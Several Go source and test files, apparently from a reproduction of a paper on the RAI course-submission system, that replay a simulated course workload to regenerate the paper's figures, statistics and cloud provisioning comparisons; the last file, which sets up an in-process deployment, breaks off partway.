// Figure2 replays every final submission (overwrite semantics: the last
// one per team counts) and bins the top-30 runtimes into 0.1 s quanta.
func Figure2(course *workload.Course) (*Figure2Result, error) {
	replay, err := RunQueueSim(QueueSimConfig{
		Course:           course,
		Policy:           scaling.FixedPolicy{N: 30},
		SlotsPerInstance: 1,
	})
	if err != nil {
		return nil, err
	}
	// Last successful submit per team wins (the ranking database
	// overwrites existing timing records, §V).
	db := docstore.New()
	for _, j := range replay.Jobs {
		if j.Kind != "submit" || j.Failed {
			continue
		}
		_, _ = db.Upsert(ranking.Collection, docstore.M{"team": j.Team}, docstore.M{"$set": docstore.M{
			"runtime_s": j.RuntimeS, "accuracy": 1.0,
		}})
	}
	lb := &ranking.Leaderboard{DB: db}
	bins, err := lb.Histogram(30, 0.1)
	if err != nil {
		return nil, err
	}
	entries, err := lb.View("")
	if err != nil {
		return nil, err
	}
	res := &Figure2Result{Bins: bins, Teams: len(entries)}
	if len(entries) > 0 {
		res.Fastest = entries[0].Runtime.Seconds()
		res.Slowest = entries[len(entries)-1].Runtime.Seconds()
	}
	for _, b := range bins {
		if b.Count > res.ModeBin.Count {
			res.ModeBin = b
		}
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "Figure 2 — distribution of the top 30 team runtimes (0.1 s bins)\n")
	fmt.Fprintf(&sb, "teams ranked: %d; fastest %.3fs; slowest %.1fs\n\n", res.Teams, res.Fastest, res.Slowest)
	sb.WriteString(ranking.FormatHistogram(bins))
	res.Text = sb.String()
	return res, nil
}

// ---- Figure 4 ----

// Figure4Result carries the submissions-per-hour timeline.
type Figure4Result struct {
	Series *stats.TimeSeries
	Total  int
	// PeakHour is the busiest hour's count.
	PeakHour int
	// CircadianContrast is afternoon-peak over pre-dawn-trough activity.
	CircadianContrast float64
	Text              string
}

// Figure4 builds the last-two-weeks hourly submission timeline
// ("a total of 30,782 submissions were made to RAI" in that window).
func Figure4(course *workload.Course) *Figure4Result {
	from := course.Cfg.Deadline.Add(-14 * 24 * time.Hour)
	hours := int(course.Cfg.Deadline.Sub(from)/time.Hour) + 1
	series := stats.NewTimeSeries(from, time.Hour, hours)
	for _, s := range course.LastTwoWeeks() {
		series.Add(s.Time)
	}
	peak, _ := series.Peak()
	prof := series.HourOfDayProfile()
	trough := prof[3] + prof[4] + prof[5]
	peakSum := prof[14] + prof[15] + prof[16]
	contrast := 0.0
	if trough > 0 {
		contrast = float64(peakSum) / float64(trough)
	}
	res := &Figure4Result{
		Series: series, Total: series.Total(), PeakHour: peak,
		CircadianContrast: contrast,
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "Figure 4 — submissions per hour, final two weeks\n")
	fmt.Fprintf(&sb, "total: %d submissions; busiest hour: %d; afternoon/pre-dawn contrast: %.1fx\n\n", res.Total, peak, contrast)
	sb.WriteString(series.FormatDaily())
	res.Text = sb.String()
	return res
}

// ---- §VII aggregate statistics (S1) ----

// CourseStats aggregates the term the way §VII reports it.
type CourseStats struct {
	Students         int
	Teams            int
	TotalSubmissions int
	LastTwoWeeks     int
	UploadGB         float64
	LogGB            float64
	Text             string
}

// Stats runs the full-course replay and totals the §VII quantities.
func Stats(course *workload.Course) (*CourseStats, error) {
	replay, err := RunQueueSim(QueueSimConfig{
		Course:           course,
		Policy:           scaling.FixedPolicy{N: 30},
		SlotsPerInstance: 1,
	})
	if err != nil {
		return nil, err
	}
	s := &CourseStats{
		Students:         course.Cfg.Students,
		Teams:            len(course.Teams),
		TotalSubmissions: len(replay.Jobs),
		LastTwoWeeks:     len(course.LastTwoWeeks()),
		UploadGB:         float64(replay.TotalUploadBytes) / (1 << 30),
		LogGB:            float64(replay.TotalLogBytes) / (1 << 30),
	}
	t := &stats.Table{Header: []string{"Quantity", "Paper", "Reproduced"}}
	t.AddRow("students", "176", fmt.Sprintf("%d", s.Students))
	t.AddRow("teams", "58", fmt.Sprintf("%d", s.Teams))
	t.AddRow("total submissions", ">40,000", fmt.Sprintf("%d", s.TotalSubmissions))
	t.AddRow("final-2-week submissions", "30,782", fmt.Sprintf("%d", s.LastTwoWeeks))
	t.AddRow("uploaded data", "~100 GB", fmt.Sprintf("%.1f GB", s.UploadGB))
	t.AddRow("logs + meta-data", "~25 GB", fmt.Sprintf("%.1f GB", s.LogGB))
	s.Text = "§VII aggregate statistics\n" + t.String()
	return s, nil
}

// ---- provisioning (S2) and baseline (B1) ----

// PolicyOutcome is one provisioning strategy's measured result.
type PolicyOutcome struct {
	Policy  string
	WaitP50 time.Duration
	WaitP95 time.Duration
	WaitMax time.Duration
	CostUSD float64
	Peak    int
}

// ComparePolicies replays the same window under several policies — the
// §III motivation quantified: fixed local clusters oversubscribe during
// the deadline burst, elasticity holds wait down at bounded cost.
func ComparePolicies(course *workload.Course, from, to time.Time, policies []scaling.Policy) ([]PolicyOutcome, string, error) {
	var out []PolicyOutcome
	for _, p := range policies {
		replay, err := RunQueueSim(QueueSimConfig{
			Course: course, From: from, To: to,
			Policy: p, SlotsPerInstance: 1,
		})
		if err != nil {
			return nil, "", err
		}
		out = append(out, PolicyOutcome{
			Policy:  p.Name(),
			WaitP50: replay.Waits.Quantile(0.5),
			WaitP95: replay.Waits.Quantile(0.95),
			WaitMax: replay.Waits.Max(),
			CostUSD: replay.CostUSD,
			Peak:    replay.PeakInstances,
		})
	}
	t := &stats.Table{Header: []string{"Policy", "Wait p50", "Wait p95", "Wait max", "Cost", "Peak workers"}}
	for _, o := range out {
		t.AddRow(o.Policy,
			o.WaitP50.Round(time.Second).String(),
			o.WaitP95.Round(time.Second).String(),
			o.WaitMax.Round(time.Second).String(),
			fmt.Sprintf("$%.0f", o.CostUSD),
			fmt.Sprintf("%d", o.Peak))
	}
	return out, t.String(), nil
}

// PhaseOutcome is one course phase under its historical provisioning
// (§VII "Resource Usage").
type PhaseOutcome struct {
	Phase   string
	Type    string
	Slots   int
	Workers string
	Jobs    int
	WaitP95 time.Duration
	CostUSD float64
}

// ResourceUsagePhases replays the three provisioning eras the paper
// describes: G2 single-job early, P2 multi-job mid-course, and 20–30
// single-job P2 instances in the benchmarking weeks.
func ResourceUsagePhases(course *workload.Course) ([]PhaseOutcome, string, error) {
	start, deadline := course.Cfg.Start, course.Cfg.Deadline
	weeks := func(n float64) time.Time { return start.Add(time.Duration(n * 7 * 24 * float64(time.Hour))) }
	type phase struct {
		name  string
		from  time.Time
		to    time.Time
		typ   scaling.InstanceType
		slots int
		pol   scaling.Policy
	}
	phases := []phase{
		{"weeks 1-2: baseline (G2, single-job)", start, weeks(2), scaling.G2, 1,
			scaling.ElasticPolicy{Min: 2, Max: 6, SlotsPerInstance: 1}},
		{"weeks 3-4: development (P2, multi-job)", weeks(2), weeks(4), scaling.P2, 4,
			scaling.ElasticPolicy{Min: 4, Max: 10, SlotsPerInstance: 4}},
		{"week 5: benchmarking (P2, single-job)", weeks(4), deadline.Add(time.Hour), scaling.P2, 1,
			scaling.ElasticPolicy{Min: 10, Max: 30, SlotsPerInstance: 1}},
	}
	var out []PhaseOutcome
	for _, ph := range phases {
		replay, err := RunQueueSim(QueueSimConfig{
			Course: course, From: ph.from, To: ph.to,
			InstanceType: ph.typ, SlotsPerInstance: ph.slots, Policy: ph.pol,
		})
		if err != nil {
			return nil, "", err
		}
		lo := ph.pol.(scaling.ElasticPolicy).Min
		hi := ph.pol.(scaling.ElasticPolicy).Max
		out = append(out, PhaseOutcome{
			Phase: ph.name, Type: ph.typ.Name, Slots: ph.slots,
			Workers: fmt.Sprintf("%d..%d (peak %d)", lo, hi, replay.PeakInstances),
			Jobs:    len(replay.Jobs),
			WaitP95: replay.Waits.Quantile(0.95),
			CostUSD: replay.CostUSD,
		})
	}
	t := &stats.Table{Header: []string{"Phase", "Instance", "Slots", "Workers", "Jobs", "Wait p95", "Cost"}}
	for _, o := range out {
		t.AddRow(o.Phase, o.Type, fmt.Sprintf("%d", o.Slots), o.Workers,
			fmt.Sprintf("%d", o.Jobs), o.WaitP95.Round(time.Second).String(), fmt.Sprintf("$%.0f", o.CostUSD))
	}
	return out, t.String(), nil
}
