package sim

import (
	"context"
	"strings"
	"testing"
	"time"

	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/project"
	"rai/internal/scaling"
	"rai/internal/shell"
	"rai/internal/workload"
)

// fall2016 is generated once; the generator is deterministic.
var fall2016 = workload.Generate(workload.Fall2016())

func smallCourse() *workload.Course {
	cfg := workload.Fall2016()
	cfg.Teams = 6
	cfg.Students = 18
	cfg.TargetSubmissions = 60
	return workload.Generate(cfg)
}

func TestDeploymentRunsSingleSubmission(t *testing.T) {
	d, err := NewDeployment(DeployConfig{})
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	c, err := d.NewClient("team-x", nil)
	if err != nil {
		t.Fatal(err)
	}
	sub := workload.Submission{
		Time: d.Clock.Now().Add(time.Hour),
		Team: "team-x",
		Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplIm2col, Tuning: 1, Team: "team-x"},
	}
	res, err := d.RunSubmission(context.Background(), c, sub)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != core.StatusSucceeded {
		t.Fatalf("status = %q", res.Status)
	}
	// The virtual clock advanced to the submission time.
	if d.Clock.Now().Before(sub.Time) {
		t.Error("clock did not advance to the arrival time")
	}
}

func TestDeploymentRunsSmallCourse(t *testing.T) {
	if testing.Short() {
		t.Skip("full-stack course replay is not short")
	}
	course := smallCourse()
	d, err := NewDeployment(DeployConfig{Start: course.Cfg.Start, RateLimit: time.Nanosecond})
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	results, err := d.RunCourse(context.Background(), course)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != len(course.Submissions) {
		t.Fatalf("results = %d, submissions = %d", len(results), len(course.Submissions))
	}
	succeeded, failed := 0, 0
	for _, r := range results {
		switch r.Result.Status {
		case core.StatusSucceeded:
			succeeded++
		case core.StatusFailed:
			failed++
		}
	}
	if succeeded == 0 {
		t.Fatal("no submission succeeded")
	}
	// Injected compile errors and crashes fail visibly.
	if failed == 0 {
		t.Error("no submission failed despite injected bugs")
	}
	// Every team that submitted a final lands on the leaderboard.
	n, err := d.DB.Count(core.CollRankings, docstore.M{})
	if err != nil {
		t.Fatal(err)
	}
	if n == 0 {
		t.Error("no ranking rows after the course")
	}
	// Uploads accumulated on the file server.
	if d.Store.Used() == 0 {
		t.Error("file server holds no data")
	}
}

func TestQueueSimFullCourse(t *testing.T) {
	replay, err := RunQueueSim(QueueSimConfig{
		Course:           fall2016,
		Policy:           scaling.FixedPolicy{N: 30},
		SlotsPerInstance: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(replay.Jobs) != len(fall2016.Submissions) {
		t.Fatalf("jobs = %d, submissions = %d", len(replay.Jobs), len(fall2016.Submissions))
	}
	// §VII: ~100 GB uploaded, ~25 GB logs/meta-data. Shape tolerance.
	uploadGB := float64(replay.TotalUploadBytes) / (1 << 30)
	logGB := float64(replay.TotalLogBytes) / (1 << 30)
	if uploadGB < 50 || uploadGB > 200 {
		t.Errorf("uploads = %.1f GB, want ≈100", uploadGB)
	}
	if logGB < 10 || logGB > 60 {
		t.Errorf("logs = %.1f GB, want ≈25", logGB)
	}
	// Jobs never start before they arrive, never wait negatively.
	for _, j := range replay.Jobs[:100] {
		if j.Start.Before(j.Arrival) || j.Wait < 0 {
			t.Fatalf("job %v starts before arrival", j)
		}
	}
}

func TestFigure2Shape(t *testing.T) {
	res, err := Figure2(fall2016)
	if err != nil {
		t.Fatal(err)
	}
	if res.Teams != 58 {
		t.Fatalf("ranked teams = %d", res.Teams)
	}
	// Mode bin below 1 s (Figure 2: most teams under a second, peak
	// near 0.4–0.5 s).
	if res.ModeBin.Lo >= 1.0 {
		t.Errorf("mode bin at [%.1f,%.1f), want sub-second", res.ModeBin.Lo, res.ModeBin.Hi)
	}
	if res.Fastest < 0.35 || res.Fastest > 0.7 {
		t.Errorf("fastest = %.3fs, want ≈0.4s", res.Fastest)
	}
	if res.Slowest < 30 {
		t.Errorf("slowest = %.1fs, want a minutes-scale tail", res.Slowest)
	}
	total := 0
	for _, b := range res.Bins {
		total += b.Count
	}
	if total != 30 {
		t.Errorf("histogram covers %d teams, want top 30", total)
	}
	if !strings.Contains(res.Text, "Figure 2") {
		t.Error("missing text rendering")
	}
}

func TestFigure4Shape(t *testing.T) {
	res := Figure4(fall2016)
	// Paper: 30,782 submissions in the last two weeks.
	if res.Total < 27_000 || res.Total > 35_000 {
		t.Errorf("last-two-weeks total = %d, want ≈30,782", res.Total)
	}
	// Circadian rhythm: strong afternoon-vs-predawn contrast.
	if res.CircadianContrast < 3 {
		t.Errorf("circadian contrast = %.1f, want pronounced", res.CircadianContrast)
	}
	// Activity ramps toward the deadline: second week busier than first.
	half := len(res.Series.Counts) / 2
	first, second := 0, 0
	for i, c := range res.Series.Counts {
		if i < half {
			first += c
		} else {
			second += c
		}
	}
	if second <= first {
		t.Errorf("no ramp: first week %d, second week %d", first, second)
	}
	if !strings.Contains(res.Text, "Figure 4") {
		t.Error("missing text rendering")
	}
}

func TestStatsMatchesPaperScale(t *testing.T) {
	s, err := Stats(fall2016)
	if err != nil {
		t.Fatal(err)
	}
	if s.Students != 176 || s.Teams != 58 {
		t.Errorf("students/teams = %d/%d", s.Students, s.Teams)
	}
	if s.TotalSubmissions < 38_000 {
		t.Errorf("total submissions = %d, want >40k scale", s.TotalSubmissions)
	}
	for _, want := range []string{"176", "58", "30,782", "100 GB"} {
		if !strings.Contains(s.Text, want) {
			t.Errorf("stats table missing %q:\n%s", want, s.Text)
		}
	}
}

func TestBaselineFixedVsElastic(t *testing.T) {
	from := fall2016.Cfg.Deadline.Add(-14 * 24 * time.Hour)
	to := fall2016.Cfg.Deadline.Add(time.Hour)
	outcomes, text, err := ComparePolicies(fall2016, from, to, []scaling.Policy{
		scaling.FixedPolicy{N: 4},
		scaling.FixedPolicy{N: 30},
		scaling.ElasticPolicy{Min: 4, Max: 30, SlotsPerInstance: 1},
	})
	if err != nil {
		t.Fatal(err)
	}
	fixed4, fixed30, elastic := outcomes[0], outcomes[1], outcomes[2]
	// §III: the small fixed cluster oversubscribes during the deadline
	// burst — queue delays reach the hours the paper warns about.
	if fixed4.WaitP95 < 15*time.Minute {
		t.Errorf("fixed-4 p95 wait = %v; expected severe queueing", fixed4.WaitP95)
	}
	// A generous always-on fleet never queues...
	if fixed30.WaitP95 > time.Minute {
		t.Errorf("fixed-30 p95 wait = %v, want ≈0", fixed30.WaitP95)
	}
	// ...but elastic approaches its latency at a fraction of the price.
	if elastic.WaitP95 > 5*time.Minute {
		t.Errorf("elastic p95 wait = %v, want interactive", elastic.WaitP95)
	}
	if elastic.CostUSD >= fixed30.CostUSD/2 {
		t.Errorf("elastic cost $%.0f not well below fixed-30 $%.0f", elastic.CostUSD, fixed30.CostUSD)
	}
	// Elastic scaled up during the burst.
	if elastic.Peak <= 4 {
		t.Errorf("elastic never scaled beyond its floor (peak %d)", elastic.Peak)
	}
	if !strings.Contains(text, "fixed-4") || !strings.Contains(text, "elastic-4..30") {
		t.Errorf("comparison table:\n%s", text)
	}
}

func TestResourceUsagePhases(t *testing.T) {
	outcomes, text, err := ResourceUsagePhases(fall2016)
	if err != nil {
		t.Fatal(err)
	}
	if len(outcomes) != 3 {
		t.Fatalf("phases = %d", len(outcomes))
	}
	// The benchmarking phase carries the bulk of the jobs (deadline
	// burst) on single-job workers.
	if outcomes[2].Jobs < outcomes[0].Jobs || outcomes[2].Jobs < outcomes[1].Jobs {
		t.Errorf("benchmarking phase jobs = %d, want the largest (%d, %d)", outcomes[2].Jobs, outcomes[0].Jobs, outcomes[1].Jobs)
	}
	if outcomes[0].Type != "g2.2xlarge" || outcomes[2].Type != "p2.xlarge" {
		t.Errorf("instance transition missing: %+v", outcomes)
	}
	if !strings.Contains(text, "benchmarking") {
		t.Errorf("phase table:\n%s", text)
	}
}

// TestFiguresDeterministic: the reproduction's outputs are
// bit-reproducible for a fixed seed — the property raisim relies on.
func TestFiguresDeterministic(t *testing.T) {
	courseA := workload.Generate(workload.Fall2016())
	courseB := workload.Generate(workload.Fall2016())
	f2a, err := Figure2(courseA)
	if err != nil {
		t.Fatal(err)
	}
	f2b, err := Figure2(courseB)
	if err != nil {
		t.Fatal(err)
	}
	if f2a.Text != f2b.Text {
		t.Error("Figure 2 text differs across identical seeds")
	}
	if Figure4(courseA).Text != Figure4(courseB).Text {
		t.Error("Figure 4 text differs across identical seeds")
	}
	sa, err := Stats(courseA)
	if err != nil {
		t.Fatal(err)
	}
	sb, err := Stats(courseB)
	if err != nil {
		t.Fatal(err)
	}
	if sa.Text != sb.Text {
		t.Error("stats text differs across identical seeds")
	}
}

func TestTable1MatchesPaper(t *testing.T) {
	rows := Table1()
	if len(rows) != 6 {
		t.Fatalf("rows = %d", len(rows))
	}
	byName := map[string]SystemFeatures{}
	for _, r := range rows {
		byName[r.System] = r
	}
	rai := byName["RAI"]
	if !(rai.Configurability && rai.Isolation && rai.Scalability && rai.Accessibility && rai.Uniformity) {
		t.Errorf("RAI row = %+v, want all features", rai)
	}
	if byName["WebGPU"].Configurability {
		t.Error("WebGPU marked configurable; paper says otherwise")
	}
	if byName["Jenkins"].Accessibility {
		t.Error("Jenkins marked accessible; paper says otherwise")
	}
	if byName["Torque/PBS"].Uniformity {
		t.Error("Torque/PBS marked uniform; paper says otherwise")
	}
	text := FormatTable1()
	if !strings.Contains(text, "RAI") || !strings.Contains(text, "Testing Uniformity") {
		t.Errorf("table text:\n%s", text)
	}
}

// TestFastPathMatchesFullStack cross-validates the two layers: the same
// submission produces the same modeled runtime through the event-level
// simulator and through the real container execution.
func TestFastPathMatchesFullStack(t *testing.T) {
	course := smallCourse()
	// Pick a final submission.
	var sub workload.Submission
	for _, s := range course.Submissions {
		if s.Kind == "submit" {
			sub = s
			break
		}
	}
	if sub.Team == "" {
		t.Fatal("no final submission in small course")
	}
	// Full stack.
	d, err := NewDeployment(DeployConfig{Start: course.Cfg.Start, RateLimit: time.Nanosecond})
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	c, err := d.NewClient(sub.Team, nil)
	if err != nil {
		t.Fatal(err)
	}
	res, err := d.RunSubmission(context.Background(), c, sub)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != core.StatusSucceeded {
		t.Fatalf("full-stack status = %q", res.Status)
	}
	// Fast path: the event-level simulator's modeled internal timer.
	fast := simulateJob(sub, QueueSimConfig{
		Course: course, Cost: shell.DefaultCostModel(), TransferBytesPerSec: 20 << 20,
	}, 0.9)
	// The internal timers must agree exactly: both sides call the same
	// cost model with the same (impl, 10000, tuning).
	if fast.RuntimeS != res.InternalTimer.Seconds() {
		t.Errorf("fast path runtime %.4fs != full stack %.4fs", fast.RuntimeS, res.InternalTimer.Seconds())
	}
}
