package sim

import (
	"context"
	"io"
	"net/http/httptest"
	"testing"
	"time"

	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/objstore"
	"rai/internal/project"
	"rai/internal/telemetry"
	"rai/internal/workload"
)

// TestJobTracePropagation asserts the tentpole invariant: one submitted
// job yields one connected span tree covering upload, enqueue, dequeue,
// build, and run, with the queue delay landing in the Figure 4
// histogram.
func TestJobTracePropagation(t *testing.T) {
	d, err := NewDeployment(DeployConfig{})
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	c, err := d.NewClient("trace-team", io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	res, err := d.RunSubmission(context.Background(), c, workload.Submission{
		Time: d.Clock.Now().Add(time.Minute), Team: "trace-team", Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplIm2col, Team: "trace-team"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.TraceID == "" {
		t.Fatal("JobResult carries no trace ID")
	}
	spans := d.Tracer.Trace(res.TraceID)
	if !telemetry.Connected(spans) {
		t.Fatalf("span tree not connected:\n%s", telemetry.FormatTree(spans))
	}
	byName := map[string]int{}
	for _, s := range spans {
		byName[s.Name]++
	}
	for _, want := range []string{"job", "upload", "enqueue", "dequeue", "build", "run"} {
		if byName[want] == 0 {
			t.Errorf("trace missing %q span:\n%s", want, telemetry.FormatTree(spans))
		}
	}
	// The dequeue span must be parented to the client's root, proving
	// the IDs crossed the queue inside the JobRequest.
	var rootID string
	for _, s := range spans {
		if s.Name == "job" {
			rootID = s.SpanID
		}
	}
	for _, s := range spans {
		if s.Name == "dequeue" && s.ParentID != rootID {
			t.Errorf("dequeue parent = %q, want root %q", s.ParentID, rootID)
		}
	}

	reg := d.Telemetry
	if v, _ := reg.Value("rai_queue_delay_seconds"); v < 1 {
		t.Errorf("queue-delay histogram has %v samples, want >= 1", v)
	}
	if v, _ := reg.Value("rai_client_jobs_total", telemetry.L("kind", core.KindRun)); v != 1 {
		t.Errorf("client jobs total = %v, want 1", v)
	}
	if v, _ := reg.Value("rai_worker_jobs_total", telemetry.L("status", core.StatusSucceeded)); v != 1 {
		t.Errorf("worker succeeded total = %v, want 1", v)
	}
	if v, _ := reg.Value("rai_worker_jobs_in_flight"); v != 0 {
		t.Errorf("jobs in flight after completion = %v, want 0", v)
	}
	if v, _ := reg.Value("rai_broker_publish_total", telemetry.L("topic", "rai")); v != 1 {
		t.Errorf("broker publish total = %v, want 1", v)
	}
	if v, _ := reg.Value("rai_worker_phase_seconds", telemetry.L("phase", "run")); v < 1 {
		t.Errorf("run-phase histogram has %v samples, want >= 1", v)
	}
}

// TestStoreMetricsFromRealJob runs a submission with the object store
// and database behind their real HTTP services and asserts GET /metrics
// on both returns Prometheus text with a counter, a gauge, and a
// histogram populated by the job (the issue's acceptance criterion).
func TestStoreMetricsFromRealJob(t *testing.T) {
	d, err := NewDeployment(DeployConfig{})
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()

	objSrv := httptest.NewServer(objstore.Handler(d.Store, nil, objstore.WithTelemetry(d.Telemetry)))
	defer objSrv.Close()
	dbSrv := httptest.NewServer(docstore.Handler(docstore.New(), nil, docstore.WithTelemetry(d.Telemetry)))
	defer dbSrv.Close()

	// Reroute the deployment through the HTTP services.
	d.Objects = objstore.NewClient(objSrv.URL)
	dbClient := docstore.NewClient(dbSrv.URL)
	for _, w := range d.Workers() {
		w.Objects = d.Objects
		w.DB = dbClient
	}

	c, err := d.NewClient("http-team", io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	res, err := d.RunSubmission(context.Background(), c, workload.Submission{
		Time: d.Clock.Now().Add(time.Minute), Team: "http-team", Kind: core.KindRun,
		Spec: project.Spec{Impl: cnn.ImplIm2col, Team: "http-team"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != core.StatusSucceeded {
		t.Fatalf("job status = %s", res.Status)
	}

	scrape := func(url string) *telemetry.Snapshot {
		t.Helper()
		resp, err := objSrv.Client().Get(url + "/metrics")
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		snap, err := telemetry.ParseText(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return snap
	}

	obj := scrape(objSrv.URL)
	if v, ok := obj.Value("rai_objstore_requests_total", telemetry.L("op", "put")); !ok || v < 2 {
		t.Errorf("objstore puts = %v,%v, want >= 2 (project upload + build archive)", v, ok)
	}
	if v, ok := obj.Value("rai_objstore_used_bytes"); !ok || v <= 0 {
		t.Errorf("objstore used bytes gauge = %v,%v, want > 0", v, ok)
	}
	if v, ok := obj.Value("rai_objstore_request_seconds_count", telemetry.L("op", "get")); !ok || v < 1 {
		t.Errorf("objstore get latency samples = %v,%v, want >= 1", v, ok)
	}

	db := scrape(dbSrv.URL)
	if v, ok := db.Value("rai_docstore_requests_total", telemetry.L("verb", "upsert")); !ok || v < 1 {
		t.Errorf("docstore upserts = %v,%v, want >= 1 (job record)", v, ok)
	}
	if v, ok := db.Value("rai_docstore_requests_in_flight"); !ok || v != 0 {
		t.Errorf("docstore in-flight gauge = %v,%v, want present and 0", v, ok)
	}
	if v, ok := db.Value("rai_docstore_request_seconds_count", telemetry.L("verb", "upsert")); !ok || v < 1 {
		t.Errorf("docstore upsert latency samples = %v,%v, want >= 1", v, ok)
	}
}
