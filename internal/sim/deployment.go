// Package sim wires every subsystem into a running RAI deployment and
// regenerates the paper's tables and figures. It offers two layers:
//
//   - Deployment: a full in-process stack (broker, object store,
//     database, auth, image registry, workers) that executes real
//     submissions end to end — archives really travel, containers really
//     run, the CNN really infers. Used by the examples, the integration
//     tests, and small-scale cross-validation of the fast path.
//
//   - QueueSim: an event-level replay of a whole course (tens of
//     thousands of submissions) against a provisioned fleet, using the
//     same cost model the containers use. Used to regenerate Figure 4,
//     the §VII aggregate statistics, and the provisioning comparisons.
package sim

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"time"

	"rai/internal/archivex"
	"rai/internal/auth"
	"rai/internal/broker"
	"rai/internal/clock"
	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/objstore"
	"rai/internal/project"
	"rai/internal/registry"
	"rai/internal/telemetry"
	"rai/internal/vfs"
	"rai/internal/workload"
)

// Deployment is a complete in-process RAI installation (Figure 1).
type Deployment struct {
	Clock   *clock.Virtual
	Broker  *broker.Broker
	Store   *objstore.Store
	DB      *docstore.DB
	Auth    *auth.Registry
	Images  *registry.Registry
	DataFS  *vfs.FS
	Network *cnn.Network
	Queue   core.Queue
	Objects core.Objects
	// Telemetry aggregates metrics from every component; Tracer holds
	// the per-job span trees. Both run on the deployment's virtual
	// clock, so simulated queue delays land in the histograms exactly
	// as the paper's Figure 4 measured them.
	Telemetry *telemetry.Registry
	Tracer    *telemetry.Tracer

	workers []*core.Worker
}

// DeployConfig shapes a deployment.
type DeployConfig struct {
	Start time.Time
	// Workers is the initial worker count; SlotsPerWorker their
	// concurrency (multi-job vs single-job mode).
	Workers        int
	SlotsPerWorker int
	// FullImages is the image count in testfull.hdf5 (kept small; the
	// enforced spec's count argument drives modeled time).
	FullImages int
	// RateLimit overrides the 30 s default (0 keeps it).
	RateLimit time.Duration
	// Seed derives the model weights and datasets.
	Seed uint64
}

// NewDeployment builds and starts a deployment at cfg.Start.
func NewDeployment(cfg DeployConfig) (*Deployment, error) {
	if cfg.Workers <= 0 {
		cfg.Workers = 1
	}
	if cfg.SlotsPerWorker <= 0 {
		cfg.SlotsPerWorker = 1
	}
	if cfg.FullImages <= 0 {
		cfg.FullImages = 20
	}
	if cfg.Seed == 0 {
		cfg.Seed = 408
	}
	if cfg.Start.IsZero() {
		cfg.Start = time.Date(2016, 11, 11, 0, 0, 0, 0, time.UTC)
	}
	vc := clock.NewVirtual(cfg.Start)
	reg := telemetry.NewRegistry()
	d := &Deployment{
		Clock:     vc,
		Broker:    broker.New(broker.WithClock(vc), broker.WithTelemetry(reg)),
		Store:     objstore.New(objstore.WithClock(vc), objstore.WithDefaultTTL(core.UploadTTL)),
		DB:        docstore.New(),
		Auth:      auth.NewRegistry(),
		Images:    registry.NewCourseRegistry(),
		Telemetry: reg,
		Tracer:    telemetry.NewTracer(4096, telemetry.WithTracerClock(vc)),
	}
	d.Broker.ExportQueueDepth(core.TasksTopic, core.TasksChannel)
	d.Auth.SetClock(vc.Now)
	d.Queue = core.BrokerQueue{B: d.Broker}
	d.Objects = core.LocalObjects{S: d.Store}

	// Course data volume: model plus the small and full datasets.
	d.Network = cnn.NewNetwork(cfg.Seed)
	d.DataFS = vfs.New()
	model, err := d.Network.SaveModel()
	if err != nil {
		return nil, err
	}
	if err := d.DataFS.WriteFile("/data/model.hdf5", model); err != nil {
		return nil, err
	}
	small, err := cnn.SynthesizeDataset(d.Network, cfg.Seed+1, 10)
	if err != nil {
		return nil, err
	}
	blob, err := small.Encode()
	if err != nil {
		return nil, err
	}
	_ = d.DataFS.WriteFile("/data/test10.hdf5", blob)
	full, err := cnn.SynthesizeDataset(d.Network, cfg.Seed+2, cfg.FullImages)
	if err != nil {
		return nil, err
	}
	blob, err = full.Encode()
	if err != nil {
		return nil, err
	}
	_ = d.DataFS.WriteFile("/data/testfull.hdf5", blob)

	for i := 0; i < cfg.Workers; i++ {
		w := &core.Worker{
			Cfg: core.WorkerConfig{
				ID:            fmt.Sprintf("worker-%d", i),
				MaxConcurrent: cfg.SlotsPerWorker,
				RateLimit:     cfg.RateLimit,
			},
			Queue:     d.Queue,
			Objects:   d.Objects,
			DB:        d.DB,
			Auth:      d.Auth,
			Images:    d.Images,
			DataFS:    d.DataFS,
			DataPath:  "/data",
			Clock:     vc,
			Telemetry: reg,
			Tracer:    d.Tracer,
		}
		d.workers = append(d.workers, w)
	}
	return d, nil
}

// Workers exposes the worker pool.
func (d *Deployment) Workers() []*core.Worker { return d.workers }

// Close shuts the deployment down.
func (d *Deployment) Close() {
	for _, w := range d.workers {
		w.Stop()
	}
	d.Broker.Close()
}

// NewClient issues credentials (if needed) and returns a client for the
// team. Output is discarded unless out is non-nil.
func (d *Deployment) NewClient(team string, out io.Writer) (*core.Client, error) {
	creds, ok := d.Auth.LookupUser(team)
	if !ok {
		var err error
		creds, err = d.Auth.Issue(team)
		if err != nil {
			return nil, err
		}
	}
	if out == nil {
		out = io.Discard
	}
	return &core.Client{
		Creds: creds, Queue: d.Queue, Objects: d.Objects,
		Clock: d.Clock, Stdout: out,
		Telemetry: d.Telemetry, Tracer: d.Tracer,
	}, nil
}

// PackProject renders a project spec and packs it as the .tar.bz2 a
// client would upload.
func PackProject(spec project.Spec) ([]byte, error) {
	fs := vfs.New()
	if err := project.WriteTo(fs, "/p", spec); err != nil {
		return nil, err
	}
	return archivex.PackVFS(fs, "/p")
}

// RunSubmission executes one workload submission end to end: pack the
// project, submit through the client, let one worker handle it.
